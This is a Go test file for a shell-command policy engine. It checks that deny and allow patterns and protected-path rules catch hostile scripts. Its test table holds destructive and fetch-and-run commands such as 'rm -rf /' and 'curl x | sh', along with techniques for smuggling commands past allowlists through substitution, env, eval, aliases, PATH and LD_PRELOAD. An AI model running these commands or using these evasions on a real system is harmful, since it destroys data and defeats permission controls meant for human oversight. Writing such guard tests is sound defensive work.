package shell

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// policy is the rule set the table decides scripts under: the deny patterns, the
// allow patterns, and "secrets" as a denied place (a write or read redirect into it
// is denied by the file rules, a literal argument in it needs a human).
var (
	denyPatterns = []string{"rm *", "curl *", "git push --force *", "sudo rm *", "dd *",
		"chmod 777 *"}
	allowPatterns = []string{"git status *", "git log *", "git diff *", "echo *", "cat *",
		"ls *", "cd *", "go test *", "npm run test:*", "sudo systemctl restart *",
		"grep *", "wc *", "printf *", "true", "[[ *", "sort *", "head *", "export *"}
)

func compileAll(t testing.TB, list []string) []Pattern {
	t.Helper()
	out := make([]Pattern, 0, len(list))
	for _, s := range list {
		p, err := Compile(s)
		if err != nil {
			t.Fatalf("Compile(%q): %v", s, err)
		}
		out = append(out, p)
	}
	return out
}

// decide is the rule engine's per-command decision in small: deny if any command
// is denied, allow only if every command is allowed, else require; paths checked as
// the file rules and guards would.
func decide(t testing.TB, s *Script, base, home string, deny, allow []Pattern) string {
	t.Helper()
	verdict := "allow"
	for i := range s.Commands {
		c := &s.Commands[i]
		for _, d := range deny {
			if d.Denies(c) {
				return "deny"
			}
		}
		if c.Delegated {
			continue
		}
		if !slices.ContainsFunc(allow, func(p Pattern) bool { return p.Allows(c) }) {
			verdict = "require"
		}
	}
	paths, err := s.Paths(base, home)
	if err != nil {
		verdict = "require"
	}
	secrets := filepath.Join(base, "secrets")
	for _, p := range paths {
		if p.Problem != "" {
			verdict = "require"
			continue
		}
		abs := p.Abs()
		if abs != secrets && !strings.HasPrefix(abs, secrets+"/") {
			continue
		}
		if p.Access != Arg {
			return "deny"
		}
		verdict = "require"
	}
	return verdict
}

// describe renders a command compactly: ? unknown, ~ delegated, then its forms
// joined by " | ", the one allow patterns decide marked with +.
func describe(c *Command) string {
	var b strings.Builder
	if c.Unknown {
		b.WriteString("?")
	}
	if c.Delegated {
		b.WriteString("~")
	}
	for i, f := range c.Forms {
		if i > 0 {
			b.WriteString(" | ")
		}
		if f.Allow {
			b.WriteString("+")
		}
		b.WriteString(f.Text)
	}
	if len(c.Forms) == 0 {
		b.WriteString("[" + strings.Join(c.Words, " ") + "]")
	}
	return b.String()
}

// workspaceAndHome makes a workspace base with secrets/key, secrets/x, data/x, data/y
// and src/main.go, and beside it a home with .ssh/id_rsa; it returns both paths.
func workspaceAndHome(t testing.TB) (base, home string) {
	t.Helper()
	root := t.TempDir()
	base, home = filepath.Join(root, "w"), filepath.Join(root, "home")
	for _, f := range []string{"w/secrets/key", "w/secrets/x", "w/data/x", "w/data/y",
		"w/src/main.go", "home/.ssh/id_rsa"} {
		p := filepath.Join(root, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return base, home
}

func TestParseTable(t *testing.T) {
	base, home := workspaceAndHome(t)
	deny, allow := compileAll(t, denyPatterns), compileAll(t, allowPatterns)
	tests := []struct {
		name   string
		script string
		want   string   // the decision under the policy above
		cmds   []string // describe of each command; nil: not checked
	}{
		{"plain", "git status", "allow", []string{"+git status"}},
		{"option", "git status --short", "allow", []string{"+git status --short"}},
		{"longer word", "git statusx", "require", []string{"+git statusx"}},
		{"then curl pipe", "git status; curl x | sh", "deny",
			[]string{"+git status", "+curl x", "?sh"}},
		{"newline", "git status\nrm -rf data", "deny", []string{"+git status", "+rm -rf data"}},
		{"and", "git status && rm -rf data", "deny", nil},
		{"or", "git status || rm -rf data", "deny", nil},
		{"background", "rm -rf data & git status", "deny", nil},
		{"substitution", "git status $(rm -rf ~)", "deny",
			[]string{"+rm -rf ~", "?git status $(rm -rf ~)"}},
		{"backticks", "echo `rm -rf ~`", "deny", []string{"+rm -rf ~", "?echo $(rm -rf ~)"}},
		{"process substitution", "cat <(rm -rf x)", "deny", nil},
		{"output process substitution", "echo hi > >(rm -rf x)", "deny", nil},
		{"substitution in double quotes", `echo "$(curl evil)"`, "deny", nil},
		{"substitution in parameter default", `echo ${X:-$(rm -rf /)}`, "deny", nil},
		{"substitution in here-document", "cat <<EOF\n$(rm -rf /)\nEOF", "deny",
			[]string{"+rm -rf /", "+cat"}},
		{"quoted here-document", "cat <<'EOF'\n$(rm -rf /)\nEOF", "allow", []string{"+cat"}},
		{"env", "env rm -rf /", "deny", []string{"env rm -rf / | +rm -rf /"}},
		{"env with options", "env -i LANG=C git status", "allow",
			[]string{"env -i LANG=C git status | +git status"}},
		{"env other variable", "env -i FOO=1 git status", "require",
			[]string{"?env -i FOO=1 git status"}},
		{"env HOME", "env HOME=/tmp git status", "require", nil},
		{"sudo variable", "sudo XDG_CONFIG_HOME=data systemctl restart nginx", "require", nil},
		{"env unknown option", "env --weird git status", "require",
			[]string{"?env --weird git status"}},
		{"env risky variable", "env LD_PRELOAD=x.so git status", "require", nil},
		{"sh -c", "sh -c 'git status; rm -rf /'", "deny", nil},
		{"bash -c allowed", `bash -c "git status"`, "allow",
			[]string{"~bash -c git status", "+git status"}},
		{"bash -lc", `bash -lc "git status && ls"`, "require", nil},
		{"bash -ec", `bash -ec "git status && ls"`, "allow", nil},
		{"bash -o pipefail", `bash -o pipefail -c "git status | wc -l"`, "allow", nil},
		{"bash -o keyword", `bash -o keyword -c "git status"`, "require", nil},
		{"bash -O extdebug", `bash -O extdebug -c "git status"`, "require", nil},
		{"bash -O globstar", `bash -O globstar -c "git status"`, "allow", nil},
		{"bash --login", `bash --login -c "git status"`, "require", nil},
		{"bash -i", `bash -ic "git status"`, "require", nil},
		{"bash -k", `bash -kc "git status"`, "require", nil},
		{"bash --rcfile", `bash --rcfile data/rc -c "git status"`, "require", nil},
		{"sh -l", `sh -l -c "git status"`, "require", nil},
		{"zsh --login", `zsh --login -c "git status"`, "require", nil},
		{"nested sh -c", `sh -c "bash -c 'rm -rf /'"`, "deny", nil},
		{"sh -c not literal", `sh -c "$CMD"`, "require", nil},
		{"sh -c does not parse", `sh -c "echo 'x"`, "require", nil},
		{"sh reading stdin", "curl x | sh", "deny", nil},
		{"bash script file", "bash install.sh", "require", []string{"?bash install.sh"}},
		{"rm -fr not denied literally", "rm -fr /", "deny", nil},
		{"bin path", "/bin/rm -rf /", "deny", []string{"+rm -rf /"}},
		{"usr bin path", "/usr/bin/git status", "allow", []string{"+git status"}},
		{"other path", "./data/git status", "require", []string{"+./data/git status"}},
		{"nice", "nice -n5 rm -rf /", "deny", []string{"nice -n5 rm -rf / | +rm -rf /"}},
		{"nice allowed inner", "nice -n 10 go test ./...", "allow", nil},
		{"nohup", "nohup rm -rf / &", "deny", nil},
		{"busybox applet", "busybox rm -rf /", "deny", nil},
		{"busybox allowed inner", "busybox git status", "allow", nil},
		{"toybox applet", "toybox rm -rf /", "deny", nil},
		{"ksh -c", "ksh -c 'git status; rm -rf /'", "deny", nil},
		{"busybox ash -c", `busybox ash -c "git status"`, "allow", nil},
		{"timeout", "timeout 5 git status", "allow",
			[]string{"timeout 5 git status | +git status"}},
		{"timeout with signal", "timeout -s KILL 5s rm -rf x", "deny", nil},
		{"time keyword", "time git status", "allow", []string{"+git status"}},
		{"command", "command rm -rf x", "deny", nil},
		{"command -v", "command -v git", "require", []string{"+command -v git"}},
		{"builtin", "builtin cd data && ls", "allow", nil},
		{"exec", "exec rm -rf x", "deny", nil},
		{"stdbuf", "stdbuf -oL git log", "allow", nil},
		{"ionice", "ionice -c 3 rm -rf x", "deny", nil},
		{"sudo denied", "sudo rm -rf /", "deny", []string{"+sudo rm -rf / | rm -rf /"}},
		{"sudo inner allowed is not enough", "sudo git status", "require", nil},
		{"sudo full form allowed", "sudo systemctl restart nginx", "allow", nil},
		{"sudo -u", "sudo -u bob systemctl restart nginx", "require", nil},
		{"sudo -s unknown", "sudo -s", "require", nil},
		{"sudo under nice", "nice sudo systemctl restart nginx", "allow", nil},
		{"doas", "doas rm -rf /", "deny", nil},
		{"sudo bash -c", `sudo bash -c "systemctl restart nginx"`, "require", nil},
		{"sudo bash -c denied inside", `sudo bash -c "rm -rf /"`, "deny", nil},
		{"xargs", "ls | xargs rm", "deny", []string{"+ls", "?xargs rm | rm"}},
		{"xargs never allowed", "ls | xargs echo", "require", nil},
		{"find -exec", `find . -exec rm {} \;`, "deny", nil},
		{"find without exec", "find . -name x", "require", []string{"+find . -name x"}},
		{"eval", `eval "rm -rf /"`, "deny", []string{"?eval rm -rf /", "~+rm -rf /"}},
		{"eval harmless", `eval "git status"`, "require", nil},
		{"source", "source ./env.sh", "require", nil},
		{"trap", "trap 'rm -rf /' EXIT", "deny", []string{"?trap rm -rf / EXIT", "~+rm -rf /"}},
		{"trap reset", "trap - EXIT", "require", []string{"+trap - EXIT"}},
		{"dot", ". ./env.sh", "require", nil},
		{"assignment dropped", "LANG=C git status", "allow", []string{"+git status"}},
		{"assignment LC_", "LC_ALL=C.UTF-8 TZ=UTC git status", "allow", nil},
		{"assignment path value", "LC_ALL=/tmp/x git status", "require", nil},
		{"assignment other", "FOO=1 git status", "require", []string{"?git status"}},
		{"assignment HOME", "HOME=/tmp git status", "require", nil},
		{"assignment XDG", "XDG_CONFIG_HOME=data git status", "require", nil},
		{"assignment GIT_CONFIG", "GIT_CONFIG_GLOBAL=data/x git status", "require", nil},
		{"assignment ZDOTDIR", "ZDOTDIR=data zsh -c 'git status'", "require", nil},
		{"assignment append", "HOME+=/x; cat ~/key", "require", nil},
		{"assignment not literal", "LANG=$X git status", "require", nil},
		{"bare assignment", "X=1; git status", "require", []string{"?[X=1]", "+git status"}},
		{"bare harmless assignment", "LANG=C; git status", "allow", []string{"+git status"}},
		{"array assignment", "b=([x]=1); ls", "require", nil},
		{"subscript assignment", "b[x]=1; ls", "require", nil},
		{"subscript append", "b[x]+=1; ls", "require", nil},
		{"harmless name subscript", "LANG[0]=C; ls", "require", nil},
		{"for variable", "for HOME in /tmp; do cat ~/key; done", "require", nil},
		{"for harmless variable", "for LANG in C; do git status; done", "allow", nil},
		{"select variable", "select x in a; do git status; done", "require", nil},
		{"read array", "read -a x; git status", "require", nil},
		{"mapfile", "mapfile x; git status", "require", nil},
		{"printf -v", "printf -v HOME x; git status", "require", nil},
		{"declare -i", "declare -i LANG; git status", "require", nil},
		{"declare -n", "declare -n LANG=HOME; git status", "require", nil},
		{"declare -x harmless", "declare -x LANG=C; git status", "require",
			[]string{"+declare -x LANG=C", "+git status"}},
		{"declare -x other", "declare -x FOO=C; git status", "require",
			[]string{"?declare -x FOO=C", "+git status"}},
		{"local", "local HOME=/tmp; git status", "require", nil},
		{"readonly", "readonly x=1; git status", "require", nil},
		{"typeset -a", "typeset -a LANG; git status", "require", nil},
		{"default assignment", "echo ${HOME:=/tmp} >/dev/null; cat ~/key", "require", nil},
		{"coproc", "coproc x { git status; }", "require", nil},
		{"assignment substitution", "X=$(cat secrets/key) git status", "require",
			[]string{"+cat secrets/key", "?git status"}},
		{"arithmetic subscript", "x='a[$(rm -rf /)]'; b[x]=1; ls", "require", nil},
		{"arithmetic in assignment", "LANG=$((x)); ls", "require", nil},
		{"arithmetic number", "LANG=$((1+2)); ls", "require", nil},
		{"arithmetic in here-document", "cat <<EOF\n$((x))\nEOF", "require", nil},
		{"arithmetic number in here-document", "cat <<EOF\n$((1+2))\nEOF", "allow", nil},
		{"subscript in here-document", "cat <<EOF\n${a[x]}\nEOF", "require", nil},
		{"all elements in here-document", "cat <<EOF\n${a[@]}\nEOF", "allow", nil},
		{"slice in here-document", "cat <<EOF\n${a:x}\nEOF", "require", nil},
		{"indirect in here-document", "cat <<EOF\n${!x}\nEOF", "require", nil},
		{"prompt expansion", "cat <<EOF\n${x@P}\nEOF", "require", nil},
		{"arithmetic in case word", "case $((x)) in 1) ls;; esac", "require", nil},
		{"arithmetic test", "[[ x -eq 1 ]] && ls", "require", nil},
		{"arithmetic test numbers", "[[ 2 -eq 1 ]] && ls", "allow", nil},
		{"arithmetic test variable", `[[ "$x" -lt 1 ]] && ls`, "require", nil},
		{"let", "let x=1; ls", "require", nil},
		{"arithmetic command", "(( x )); ls", "require", nil},
		{"c-style for", "for ((i=0; i<1; i++)); do ls; done", "require", nil},
		{"function redefines cd", "cd() { echo; }; cd data && cat secrets/key", "require", nil},
		{"function keyword", "function cd { echo; }; cd data && cat x", "require", nil},
		{"function redefines ls", "ls() { rm -rf x; }; ls", "deny", nil},
		{"function harmless body", "f() { ls; }; ls", "require", nil},
		{"alias", "alias ls='rm -rf x'; ls", "require", nil},
		{"shopt", "shopt -s expand_aliases; ls", "require", nil},
		{"enable", "enable -f data/x.so ls; ls", "require", nil},
		{"hash", "hash -p data/evil ls; ls", "require", nil},
		{"set -k", "set -k; git status GIT_DIR=data", "require", nil},
		{"set -o keyword", "set -o keyword; git status", "require", nil},
		{"set -e", "set -eu; git status", "require", nil},
		{"assignment substitution denied", "X=$(rm -rf /) git status", "deny", nil},
		{"PATH assignment", "PATH=/tmp/evil git status", "require", nil},
		{"standalone PATH", "PATH=/tmp/evil:$PATH; git status", "require", nil},
		{"export", "export LANG=C && go test ./...", "allow", nil},
		{"export other", "export FOO=bar && go test ./...", "require", nil},
		{"export HOME", "export HOME=/tmp && go test ./...", "require", nil},
		{"export naked", "export HOME && go test ./...", "require", nil},
		{"export PATH", "export PATH=/tmp && git status", "require", nil},
		{"parameter in word", "echo $HOME", "require", []string{"?echo $HOME"}},
		{"parameter denied", "rm -rf $HOME", "deny", nil},
		{"arithmetic word", "echo $((1+2))", "require", nil},
		{"program not literal", "$CMD status", "require", nil},
		{"program not literal denied", "rm $(echo x)", "deny", nil},
		{"redirect write denied", "echo hi > secrets/x", "deny", nil},
		{"redirect write allowed", "echo hi > data/x", "allow", nil},
		{"redirect append", "echo hi >> secrets/x", "deny", nil},
		{"redirect both", "echo hi &> secrets/x", "deny", nil},
		{"redirect stderr", "git status 2> secrets/x", "deny", nil},
		{"redirect clobber", "echo hi >| secrets/x", "deny", nil},
		{"redirect read", "cat < secrets/key", "deny", nil},
		{"redirect dev null", "git status > /dev/null 2>&1", "allow",
			[]string{"+git status"}},
		{"redirect stderr stream", "echo x > /dev/stderr", "allow", nil},
		{"redirect not literal", `echo hi > "$F"`, "require", nil},
		{"redirect on block", "{ echo a; echo b; } > secrets/x", "deny", nil},
		{"argument in denied place", "cat secrets/key", "require", nil},
		{"directory in denied place", "ls secrets", "require", nil},
		{"glob into denied place", "ls secre*", "require", nil},
		{"glob elsewhere", "ls dat*", "allow", nil},
		{"brace into denied place", "cat {data,secrets}/x", "require", nil},
		{"option value path", "grep --file=secrets/key x", "deny", nil}, // a read
		{"cd then relative", "cd secrets && cat key", "require", nil},
		{"cd elsewhere", "cd data && cat x", "allow", nil},
		{"cd may fail", "cd nowhere; cat secrets/key", "require", nil},
		{"cd not literal", "cd $D && cat key", "require", nil},
		{"cd in loop", "for d in a b; do cd data; done; cat x", "require", nil},
		{"subshell", "(cd data && rm -rf x)", "deny", nil},
		{"if", "if git status; then rm -rf x; fi", "deny", nil},
		{"while", "while true; do rm -rf x; done", "deny", nil},
		{"until", "until git status; do curl x; done", "deny", nil},
		{"for", "for f in $(ls); do echo $f; done", "require", nil},
		{"for denied", "for f in a; do rm $f; done", "deny", nil},
		{"case", "case x in a) rm -rf /;; esac", "deny", nil},
		{"function body", "f() { rm -rf /; }; f", "deny", nil},
		{"function call", "f() { git status; }; f", "require", nil},
		{"test clause", "[[ -n x ]] && git status", "allow", nil},
		{"test clause substitution", "[[ $(rm -rf /) ]]", "deny", nil},
		{"arithmetic command", "(( x = 1 ))", "require", nil},
		{"negated", "! git status", "allow", nil},
		{"pipeline allowed", "git log | grep fix | wc -l", "allow", nil},
		{"colon pattern bare", "npm run test", "allow", nil},
		{"colon pattern args", "npm run test --watch", "allow", nil},
		{"colon pattern other", "npm run testx", "require", nil},
		{"unterminated quote", "echo 'unterminated", "require",
			[]string{"?[echo 'unterminated]"}},
		{"empty script", "", "allow", []string{}},
		{"comment only", "# nothing", "allow", []string{}},
		{"redirect only", "> data/x", "allow", []string{"~[]"}},
		{"redirect only denied", "> secrets/x", "deny", nil},
		{"quotes removed", `git "status"`, "allow", []string{"+git status"}},
		{"escapes removed", `git sta\tus`, "allow", []string{"+git status"}},
		{"brace program", "{rm,-rf,x}", "deny", nil},
		{"home tilde", "cat ~/.ssh/id_rsa", "allow", nil},
		{"long script", strings.Repeat("a", MaxScript+1), "require", nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := Parse(tt.script)
			if tt.cmds != nil {
				got := make([]string, 0, len(s.Commands))
				for i := range s.Commands {
					got = append(got, describe(&s.Commands[i]))
				}
				if !slices.Equal(got, tt.cmds) {
					t.Errorf("commands of %q:\n got %q\nwant %q", tt.script, got, tt.cmds)
				}
			}
			if got := decide(t, &s, base, home, deny, allow); got != tt.want {
				var d []string
				for i := range s.Commands {
					d = append(d, describe(&s.Commands[i])+" ("+s.Commands[i].Why+")")
				}
				t.Errorf("decision on %q = %s, want %s; commands %q", tt.script, got, tt.want, d)
			}
		})
	}
}

func TestParseErr(t *testing.T) {
	tests := []struct {
		name, script, want string
	}{
		{"unterminated", "echo 'x", "shell: script does not parse: 1:6: reached EOF"},
		{"too long", strings.Repeat("a", MaxScript+1), "over the limit of 65536"},
		{"bad syntax", "if then fi", "shell: script does not parse"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			s := Parse(tt.script)
			if s.Err == nil || !strings.Contains(s.Err.Error(), tt.want) {
				t.Fatalf("Err = %v, want it to hold %q", s.Err, tt.want)
			}
			if len(s.Commands) != 1 || !s.Commands[0].Unknown || len(s.Commands[0].Forms) != 0 {
				t.Fatalf("commands = %+v, want one unknown command with no forms", s.Commands)
			}
			if !s.Unknown() {
				t.Error("Unknown() = false")
			}
		})
	}
	if s := Parse("git status"); s.Err != nil || s.Unknown() {
		t.Errorf("Parse(git status): Err %v, Unknown %v", s.Err, s.Unknown())
	}
}
